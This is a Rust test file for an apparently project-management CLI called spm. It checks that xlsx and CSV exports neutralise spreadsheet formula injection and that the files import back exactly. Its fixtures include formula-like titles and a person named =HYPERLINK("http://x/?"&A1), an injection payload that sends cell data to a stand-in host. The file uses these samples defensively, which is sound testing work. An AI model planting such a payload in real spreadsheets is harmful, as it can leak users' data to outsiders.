//! A workbook's text cells hold the text itself (a string cell is never run as a formula, so
//! the `'` guard is CSV's alone), its headers are for people, and both kinds of workbook spm
//! writes (a list, and the whole database) import back exactly; so do those of older spm
//! versions, which guarded formulas as CSV does.

use std::io::Read;
use std::path::Path;

use calamine::{Data, Reader, Xlsx, open_workbook};
use serde_json::Value;

use crate::common::{Env, dump};

/// Titles that a spreadsheet would run as a formula, or that begin with `'` (which an import
/// takes off a guarded cell), or are only `'`. (A title never begins with a tab: spm trims
/// titles, so `"\t=tab"` is stored as `=tab`, which is here.)
const TITLES: &[&str] = &[
    "=Equality, diversity",
    "+44 20 7946 0000",
    "-5 degrees",
    "@SUM(A1)",
    "=tab",
    "A tab\tinside",
    "'",
    "''",
    "'tis the season",
    "'=quoted formula",
    "''@twice quoted",
];

/// The demo, and a project for each of [`TITLES`] (its summary the same text), and a person
/// named like a formula.
fn tricky() -> Env {
    let env = Env::demo();
    for (i, title) in TITLES.iter().enumerate() {
        let code = format!("tricky-{i}");
        let summary = format!("--summary={title}");
        env.ok(&[
            "project",
            "add",
            "--code",
            &code,
            "--form",
            "educational-research",
            "--level",
            "consultation",
            &summary,
            "--",
            title,
        ]);
    }
    env.ok(&[
        "person",
        "add",
        "=HYPERLINK(\"http://x/?\"&A1)",
        "--kind",
        "student",
        "--email",
        "formula@example.ac.uk",
    ]);
    env
}

/// `--format json ARGS` as a list, without the fields the database sets itself.
fn listed(env: &Env, args: &[&str]) -> Vec<Value> {
    let mut list = env.json_list(args);
    for item in &mut list {
        if let Some(obj) = item.as_object_mut() {
            for key in ["id", "created_at", "updated_at"] {
                obj.remove(key);
            }
        }
    }
    list
}

/// The text of every string cell of the first sheet, by its column's header.
fn column_texts(path: &Path, header: &str) -> Vec<String> {
    let mut book: Xlsx<_> = open_workbook(path).expect("the workbook");
    let range = book
        .worksheet_range_at(0)
        .expect("a sheet")
        .expect("the sheet");
    let mut rows = range.rows();
    let head = rows.next().expect("a header");
    let at = head
        .iter()
        .position(|c| *c == Data::String(header.into()))
        .unwrap_or_else(|| panic!("no column {header:?} in {head:?}"));
    rows.filter_map(|r| match &r[at] {
        Data::String(s) => Some(s.clone()),
        _ => None,
    })
    .collect()
}

/// A part of the zip that an xlsx file is, as text.
fn part(path: &Path, name: &str) -> Option<String> {
    let file = std::fs::File::open(path).expect("the workbook");
    let mut zip = zip::ZipArchive::new(file).expect("an xlsx file is a zip");
    let mut entry = zip.by_name(name).ok()?;
    let mut text = String::new();
    entry.read_to_string(&mut text).expect("UTF-8 XML");
    Some(text)
}

/// Checks that the first sheet holds `text` in a string cell (an inline string, or a shared
/// one) and no formula anywhere.
fn assert_string_cell(path: &Path, text: &str) {
    let sheet = part(path, "xl/worksheets/sheet1.xml").expect("the first sheet");
    assert!(
        !sheet.contains("<f>") && !sheet.contains("<f "),
        "a formula in the sheet"
    );
    let escaped = text
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;");
    let inline = sheet
        .split("<c ")
        .any(|cell| cell.contains("t=\"inlineStr\"") && cell.contains(&format!(">{escaped}</t>")));
    let shared = part(path, "xl/sharedStrings.xml")
        .is_some_and(|s| s.contains(&format!(">{escaped}</t>")) && sheet.contains("t=\"s\""));
    assert!(inline || shared, "{text:?} is not a string cell: {sheet}");
}

#[test]
fn a_list_workbook_holds_the_text_itself_in_string_cells() {
    let env = tricky();
    env.ok(&["project", "list", "-o", "projects.xlsx"]);
    let path = env.path("projects.xlsx");
    let titles = column_texts(&path, "Title");
    for title in TITLES {
        // Only text that looks like an older guard gets one more ' (see below).
        let shown = if title.starts_with("'=") || title.starts_with("''@") {
            format!("'{title}")
        } else {
            title.to_string()
        };
        assert!(titles.contains(&shown), "{shown:?} not in {titles:?}");
    }
    assert!(!titles.iter().any(|t| t == "'=Equality, diversity"));
    assert_string_cell(&path, "=Equality, diversity");
    assert_string_cell(&path, "@SUM(A1)");

    // CSV keeps the guard.
    let csv = env.ok(&["project", "list", "--format", "csv"]);
    assert!(csv.contains("\"'=Equality, diversity\""), "{csv}");
}

#[test]
fn workbooks_of_projects_and_people_import_back_unchanged() {
    let env = tricky();
    env.ok(&["person", "list", "-o", "people.xlsx"]);
    env.ok(&["project", "list", "-o", "projects.xlsx"]);
    let other = Env::fresh();
    // People first, so that the projects' leads are found by their email.
    for (noun, file) in [("person", "people.xlsx"), ("project", "projects.xlsx")] {
        let path = env.path(file);
        other.ok(&["-q", noun, "import", path.to_str().expect("a path")]);
    }
    assert_eq!(
        listed(&other, &["project", "list"]),
        listed(&env, &["project", "list"])
    );
    assert_eq!(
        listed(&other, &["person", "list"]),
        listed(&env, &["person", "list"])
    );
    let titles: Vec<String> = other
        .json_list(&["project", "list"])
        .iter()
        .filter_map(|p| p["title"].as_str().map(str::to_string))
        .collect();
    for title in TITLES {
        assert!(titles.iter().any(|t| t == title), "{title:?} lost");
    }
}

#[test]
fn every_header_of_a_list_workbook_is_one_the_import_knows() {
    // The dry run reads every column, and refuses one it does not know.
    let env = Env::demo();
    for (noun, file) in [("person", "people.xlsx"), ("project", "projects.xlsx")] {
        env.ok(&[noun, "list", "-o", file]);
        let fresh = Env::fresh();
        let path = env.path(file);
        let out = fresh.run_ok(&[noun, "import", "--dry-run", path.to_str().expect("a path")]);
        let said = String::from_utf8_lossy(&out.stderr);
        assert!(said.contains("dry run of"), "{said}");
    }
}

#[test]
fn a_workbook_from_an_older_spm_reads_its_guard_off() {
    // Earlier spm versions wrote a title =x as '=x in a workbook too, and the keys as headers.
    let env = Env::fresh();
    let path = env.path("older.xlsx");
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    let rows: [[&str; 5]; 3] = [
        ["code", "title", "form", "level_planned", "academic_year"],
        [
            "older-1",
            "'=Equality, diversity",
            "educational-research",
            "consultation",
            "2026/27",
        ],
        [
            "older-2",
            "''=quoted formula",
            "educational-research",
            "consultation",
            "2026/27",
        ],
    ];
    for (r, row) in rows.iter().enumerate() {
        for (c, text) in row.iter().enumerate() {
            sheet
                .write_string(r as u32, c as u16, *text)
                .expect("a cell");
        }
    }
    book.save(&path).expect("the workbook");
    env.ok(&["-q", "project", "import", path.to_str().expect("a path")]);
    assert_eq!(
        env.show("project", "older-1")["title"],
        "=Equality, diversity"
    );
    assert_eq!(env.show("project", "older-2")["title"], "'=quoted formula");
}

#[test]
fn a_database_workbook_holds_the_text_itself_and_restores_exactly() {
    let env = tricky();
    env.ok(&["export", "-o", "everything.xlsx"]);
    let path = env.path("everything.xlsx");
    let mut book: Xlsx<_> = open_workbook(&path).expect("the workbook");
    let projects = book.worksheet_range("projects").expect("the projects");
    let cells: Vec<String> = projects
        .rows()
        .flat_map(|r| r.iter())
        .filter_map(|c| match c {
            Data::String(s) => Some(s.clone()),
            _ => None,
        })
        .collect();
    for (title, cell) in [
        ("=Equality, diversity", "=Equality, diversity"),
        ("@SUM(A1)", "@SUM(A1)"),
        ("-5 degrees", "-5 degrees"),
        // Text that begins with ' (or is only ') keeps one more, which the import takes off.
        ("'", "''"),
        ("'tis the season", "''tis the season"),
    ] {
        assert!(cells.iter().any(|c| c == cell), "{title:?} as {cell:?}");
    }
    let new = env.path("new.db");
    env.ok(&[
        "-q",
        "--db",
        new.to_str().expect("a path"),
        "restore",
        path.to_str().expect("a path"),
    ]);
    assert_eq!(dump(&new), env.dump());
}

#[test]
fn a_database_workbook_of_an_older_spm_restores_exactly_too() {
    // Earlier versions guarded formulas in the workbook as in CSV: '=x. Rewritten so here.
    let env = tricky();
    env.ok(&["export", "-o", "everything.xlsx"]);
    let path = env.path("everything.xlsx");
    let older = env.path("older.xlsx");
    let mut book: Xlsx<_> = open_workbook(&path).expect("the workbook");
    let mut out = rust_xlsxwriter::Workbook::new();
    for name in book.sheet_names() {
        let range = book.worksheet_range(&name).expect("a sheet");
        let sheet = out.add_worksheet();
        sheet.set_name(&name).expect("a name");
        for (r, c, cell) in range.used_cells() {
            let (r, c) = (r as u32, c as u16);
            match cell {
                Data::String(t) if r > 0 && t.starts_with(['=', '+', '-', '@']) => {
                    sheet.write_string(r, c, format!("'{t}"))
                }
                Data::String(t) => sheet.write_string(r, c, t),
                Data::Float(x) => sheet.write_number(r, c, *x),
                _ => continue,
            }
            .expect("a cell");
        }
    }
    out.save(&older).expect("the older workbook");
    let new = env.path("new.db");
    env.ok(&[
        "-q",
        "--db",
        new.to_str().expect("a path"),
        "restore",
        older.to_str().expect("a path"),
    ]);
    assert_eq!(dump(&new), env.dump());
}

#[test]
fn every_list_and_report_workbook_has_headers_for_people() {
    let env = Env::demo();
    let commands: &[&[&str]] = &[
        &["project", "list"],
        &["project", "partner", "list", "mh-peer-2025"],
        &["person", "list"],
        &["person", "request", "list"],
        &["review", "list"],
        &["review", "due"],
        &["principle", "list"],
        &["principle", "frameworks"],
        &["rec", "list"],
        &["rec", "board"],
        &["panel", "list"],
        &["panel", "insight", "list", "1"],
        &["fund", "list"],
        &["priority", "list", "2025/26"],
        &["report", "summary"],
        &["report", "principles"],
        &["report", "reviews"],
        &["report", "outcomes"],
        &["report", "participation"],
        &["report", "recommendations"],
        &["report", "funding"],
    ];
    for args in commands {
        let mut full = args.to_vec();
        full.extend_from_slice(&["-o", "list.xlsx"]);
        env.ok(&full);
        let mut book: Xlsx<_> = open_workbook(env.path("list.xlsx")).expect("the workbook");
        let range = book
            .worksheet_range_at(0)
            .expect("a sheet")
            .expect("the sheet");
        let header: Vec<String> = range
            .rows()
            .next()
            .expect("a header")
            .iter()
            .map(|c| c.to_string())
            .collect();
        let mut csv = vec!["--format", "csv"];
        csv.extend_from_slice(args);
        let keys = crate::common::read_csv(&env.ok(&csv)).0;
        assert_eq!(
            header.len(),
            keys.len(),
            "spm {args:?}: {header:?} / {keys:?}"
        );
        for h in &header {
            let first = h.chars().next().expect("a header");
            assert!(
                !h.contains('_') && (first.is_uppercase() || !first.is_alphabetic()),
                "spm {args:?}: {h:?} is a key, not a header"
            );
        }
        let mut unique = header.clone();
        unique.sort();
        unique.dedup();
        assert_eq!(
            unique.len(),
            header.len(),
            "spm {args:?}: a header twice: {header:?}"
        );
    }
}
